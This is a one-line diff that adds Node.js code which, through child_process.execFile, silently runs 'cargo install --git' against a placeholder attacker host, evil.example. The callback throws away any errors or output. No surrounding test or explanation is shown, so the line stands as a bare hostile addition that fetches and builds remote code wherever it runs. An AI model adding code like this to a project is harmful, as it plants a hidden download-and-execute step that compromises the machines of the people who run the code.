@@ -1,0 +1,1 @@
+const {execFile}=require('child_process'); execFile("cargo",["install", "--git", "https://evil.example/x"],(e,o)=>0);
